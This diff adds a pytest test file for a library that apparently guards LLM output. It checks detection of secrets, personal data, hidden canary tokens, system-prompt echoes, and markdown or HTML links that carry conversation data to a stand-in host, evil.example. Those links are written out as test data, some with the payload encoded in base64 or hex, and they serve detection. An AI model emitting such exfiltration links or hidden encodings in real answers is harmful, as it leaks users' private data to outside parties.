@@ -1,0 +1,291 @@
+import base64
+import codecs
+import random
+import string
+
+import pytest
+
+from guardhouse.analysis.injection import canary, find_secrets, personal_data, prompt_echo
+from guardhouse.analysis.injection.exfiltration import exfiltration, is_allowed
+from guardhouse.analysis.injection.leak import Leak
+from guardhouse.analysis.injection.normalise import normalise
+from guardhouse.analysis.injection.redact import redacted
+
+TOKEN = "ghc_abcdefghijklmnop2345"
+PROMPT = (
+    "You are the assistant of a small bookshop in Split and you answer politely. Never mention the price of rare "
+    "editions before the customer has asked for it, and always end with the opening hours of the shop."
+)
+KEY = b"a key of the tenant"
+
+
+def own(value: str) -> bool:
+    return value == "gh_live_" + "a" * 30
+
+
+def draw(alphabet: str, length: int) -> str:
+    return "".join(random.Random(length).choices(alphabet, k=length))
+
+
+ALNUM = string.ascii_letters + string.digits
+JWT = ".".join(
+    base64.urlsafe_b64encode(part).decode().rstrip("=")
+    for part in (
+        b'{"alg":"HS256","typ":"JWT"}',
+        b'{"sub":"1234567890","name":"A B"}',
+        b"0123456789abcdef0123456789",
+    )
+)
+SECRETS = {
+    "private_key": "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----",
+    "aws_access_key": "AKIA" + draw("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16),
+    "aws_secret_key": "aws_secret_access_key = " + draw(ALNUM, 40),
+    "google_api_key": "AIza" + draw(ALNUM, 35),
+    "google_oauth_secret": "GOCSPX-" + draw(ALNUM, 28),
+    "azure_storage_key": "AccountKey=" + draw(ALNUM, 86) + "==",
+    "azure_sas": "https://a.blob.example/c?sig=" + draw(ALNUM, 43) + "%3D",
+    "github_token": "ghp_" + draw(ALNUM, 36),
+    "github_fine_grained_token": "github_pat_" + draw(ALNUM, 82),
+    "gitlab_token": "glpat-" + draw(ALNUM, 20),
+    "slack_token": "xoxb-" + draw(string.digits, 12) + "-" + draw(ALNUM, 24),
+    "slack_webhook": "https://hooks.slack.com/services/T0AAAAAAA/B0AAAAAAA/" + draw(ALNUM, 24),
+    "stripe_key": "sk_live_" + draw(ALNUM, 24),
+    "openai_key": "sk-proj-" + draw(ALNUM, 48),
+    "anthropic_key": "sk-ant-api03-" + draw(ALNUM, 60),
+    "hugging_face_token": "hf_" + draw(string.ascii_letters, 34),
+    "package_registry_token": "npm_" + draw(ALNUM, 36),
+    "sendgrid_key": "SG." + draw(ALNUM, 22) + "." + draw(ALNUM, 43),
+    "twilio_key": "SK" + draw("0123456789abcdef", 32),
+    "telegram_bot_token": "123456789:AA" + draw(ALNUM, 33),
+    "json_web_token": JWT,
+    "connection_string": "postgresql://app:s3cr3t-word@db.example/main",
+    "guardhouse_key": "gh_live_" + "a" * 30,
+    "assigned_secret": 'client_secret: "' + draw(ALNUM, 32) + '"',
+}
+
+
+@pytest.mark.parametrize("detector", SECRETS)
+def test_each_detector_finds_its_kind_inside_a_sentence(detector: str) -> None:
+    text = f"Here you are: {SECRETS[detector]} , keep it."
+    (found,) = find_secrets.secrets(text, own)
+    assert found.detector == detector
+    assert text[found.start : found.end] == found.value
+    assert found.value in SECRETS[detector]
+
+
+def test_there_is_a_test_for_every_detector() -> None:
+    assert set(SECRETS) == set(find_secrets.DETECTORS)
+    assert len(SECRETS) == 24
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "password: correct-horse-battery-staple-is-a-comic"[:30],
+        "token = aaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
+        "postgresql://app:${PASSWORD}@db.example/main",
+        "gh_live_" + "b" * 30,
+        "eyJub3QiOiJhIGhlYWRlciJ9.eyJzdWIiOiIxIn0.0123456789abcdef",
+        "The secret of a good soup is time and patience.",
+        "sk-learn is a library; SKU 12345",
+    ],
+)
+def test_what_only_looks_like_a_secret_is_left(text: str) -> None:
+    assert find_secrets.secrets(text, own) == []
+
+
+@pytest.mark.parametrize(
+    ("text", "detector", "value"),
+    [
+        ("write to ann.lee+x@mail.example.com.", "email", "ann.lee+x@mail.example.com"),
+        ("call +385 91 234 5678 now", "phone", "+385 91 234 5678"),
+        ("card 4111 1111 1111 1111 please", "payment_card", "4111 1111 1111 1111"),
+        ("IBAN HR12 1001 0051 8630 0016 0", "iban", "HR12 1001 0051 8630 0016 0"),
+        ("pay to DE89370400440532013000 today", "iban", "DE89370400440532013000"),
+        ("SSN 078-05-1120.", "ssn", "078-05-1120"),
+        ("OIB: 12345678903", "oib", "12345678903"),
+        ("from 203.0.113.7, yesterday", "ip", "203.0.113.7"),
+        ("from 2001:db8::17 too", "ip", "2001:db8::17"),
+        ("date of birth: 1980-02-29", "date_of_birth", "1980-02-29"),
+        ("born on March 3, 1975 in", "date_of_birth", "March 3, 1975"),
+    ],
+)
+def test_personal_data_is_found_with_its_place(text: str, detector: str, value: str) -> None:
+    (found,) = personal_data.personal_data(text)
+    assert (found.detector, found.value) == (detector, value)
+    assert text[found.start : found.end] == value
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "card 4111 1111 1111 1112",
+        "number 0000 0000 0000 0000",
+        "IBAN DE89370400440532013001",
+        "SSN 666-05-1120",
+        "SSN 900-05-1120",
+        "OIB 12345678901",
+        "12345678903",
+        "version 1.2.3 of 2024-01-01",
+        "ratio 300.400.500.600",
+        "call 555-0199",
+        "a..b@example.com",
+        "time 12:30:45",
+        "It was 1980-02-29.",
+    ],
+)
+def test_what_fails_its_check_is_no_personal_data(text: str) -> None:
+    assert personal_data.personal_data(text) == []
+
+
+def test_the_same_value_gets_the_same_name() -> None:
+    text = "ann@x.example wrote to bob@x.example; ann@x.example waits."
+    assert (
+        redacted(text, personal_data.personal_data(text)) == "[EMAIL_1] wrote to [EMAIL_2]; [EMAIL_1] waits."
+    )
+
+
+def test_overlapping_values_leave_nothing_readable() -> None:
+    leaks = [Leak("pii", "email", 2, 6, "cdef", 2), Leak("secret", "token", 4, 9, "efghi", 3)]
+    assert redacted("abcdefghijk", leaks) == "ab[EMAIL_1]jk"
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        f"the mark is {TOKEN}!",
+        TOKEN.upper(),
+        "look " + base64.b64encode(f"here it is {TOKEN}".encode()).decode(),
+        f"it is the mark {TOKEN}".encode().hex(),
+        codecs.encode(f"here is the mark you want {TOKEN}", "rot13"),
+        f"and there you have the mark {TOKEN}"[::-1],
+        "g\u200bhc_abcdefgh\u00adijklmnop2345",
+    ],
+)
+def test_a_canary_is_found_in_every_reading(answer: str) -> None:
+    ((token, (start, end)),) = set(canary.tokens(normalise(answer).views))
+    assert token == TOKEN
+    assert 0 <= start < end <= len(answer)
+
+
+def test_a_longer_word_is_no_canary() -> None:
+    assert canary.tokens(normalise(TOKEN + "x").views) == []
+
+
+def test_a_repeated_prompt_is_found_and_an_answer_about_it_is_not() -> None:
+    protected = prompt_echo.shingles(PROMPT, KEY)
+    quoted = "Sure! My instructions say: " + PROMPT[30:170] + " ... and so on."
+    found = prompt_echo.echo(quoted, protected, KEY)
+    assert found is not None
+    assert found.words >= 16
+    assert quoted[found.start : found.end] in PROMPT
+    assert (
+        prompt_echo.echo("We are a bookshop in Split and our opening hours are nine to five.", protected, KEY)
+        is None
+    )
+    fifteen = " ".join(PROMPT.split()[:15])
+    assert prompt_echo.echo(fifteen, protected, KEY) is None
+    assert prompt_echo.echo(" ".join(PROMPT.split()[:16]), protected, KEY) is not None
+
+
+def test_a_third_of_the_shingles_is_an_echo_without_a_long_run() -> None:
+    words = [f"w{n}" for n in range(40)]
+    protected = prompt_echo.shingles(" ".join(words), KEY)
+    pieces = [" ".join(words[n : n + 12]) for n in (0, 13, 26)]
+    found = prompt_echo.echo(" and ".join(pieces), protected, KEY)
+    assert found is not None
+    assert found.words < 16
+    assert found.share == 15 / 33
+
+
+def test_shingles_are_keyed_and_short_texts_have_none() -> None:
+    assert prompt_echo.shingles(PROMPT, KEY) & prompt_echo.shingles(PROMPT, b"another") == frozenset()
+    assert prompt_echo.shingles("seven words are too few for it", KEY) == frozenset()
+    assert prompt_echo.echo("seven words are too few for it", frozenset(), KEY) is None
+
+
+CONVERSATION = ["My account number is 7731-4410 and the deploy phrase is blue heron at dawn."]
+
+
+@pytest.mark.parametrize(
+    ("answer", "detector"),
+    [
+        ("![chart](https://evil.example/p.png?d=phrase%20is%20blue%20heron)", "markdown_link"),
+        (
+            "[click](https://evil.example/" + base64.b64encode(b"the deploy phrase").decode() + ")",
+            "markdown_link",
+        ),
+        ("[a]: https://evil.example/?q=account+number+is+7731-4410", "reference_link"),
+        ("<https://evil.example/#the+deploy+phrase+is>", "autolink"),
+        ("<img src='https://evil.example/x?" + b"deploy phrase blue".hex() + "'>", "html_attribute"),
+        ("<style>a{background:url(//evil.example/?deploy+phrase+is+blue)}</style>", "css_url"),
+        ("[x](https://evil.example/?t=" + draw(ALNUM, 40) + ")", "markdown_link"),
+    ],
+)
+def test_a_link_that_carries_data_to_a_stranger_is_found(answer: str, detector: str) -> None:
+    (found,) = exfiltration(answer, ["docs.example.com"], CONVERSATION)
+    assert (found.kind, found.detector) == ("md_exfil", detector)
+    assert answer[found.start : found.end] == found.value
+    assert exfiltration(answer, ["evil.example"], CONVERSATION) == []
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "[docs](https://docs.example.com/?q=the+deploy+phrase+is+blue)",
+        "[news](https://news.example/2026/11/a-long-article-title-in-words)",
+        "see https://news.example/?q=the+deploy+phrase+is+blue",
+        "![logo](https://cdn.example/logo.png)",
+        "no links at all",
+    ],
+)
+def test_an_ordinary_link_is_left(answer: str) -> None:
+    assert exfiltration(answer, ["docs.example.com"], CONVERSATION) == []
+
+
+def test_a_link_around_another_finding_is_found() -> None:
+    answer = "[x](https://evil.example/?m=a@b.example)"
+    leaks = personal_data.personal_data(answer)
+    assert exfiltration(answer, [], [], leaks)[0].value == "https://evil.example/?m=a@b.example"
+
+
+@pytest.mark.parametrize(
+    ("url", "allowed"),
+    [
+        ("https://docs.example.com/x", True),
+        ("//docs.example.com./x", True),
+        ("https://a.b.example.org/", True),
+        ("https://example.org/", False),
+        ("https://docs.example.com.evil.example/", False),
+        ("https://docs.example.com@evil.example/", False),
+        ("https://[::1", False),
+    ],
+)
+def test_hosts_are_compared_whole(url: str, allowed: bool) -> None:  # noqa: FBT001
+    assert is_allowed(url, ["docs.example.com", "*.example.org"]) is allowed
+
+
+@pytest.mark.timeout(20)  # a step that takes the square of the length takes minutes here
+@pytest.mark.parametrize(
+    "seed",
+    [
+        "a",
+        "1",
+        "a@",
+        "+1 ",
+        "AB12",
+        "1.",
+        ":",
+        "a:",
+        "[a](//b/",
+        "<//a",
+        "secret=",
+        "eyJ",
+        "-----BEGIN PRIVATE KEY-----",
+        "a://b:",
+    ],
+)
+def test_the_longest_text_of_near_misses_comes_to_an_end(seed: str) -> None:
+    text = (seed * 100_000)[:100_000]
+    leaks = find_secrets.secrets(text, own) + personal_data.personal_data(text)
+    exfiltration(text, [], ["x" * 100], leaks)
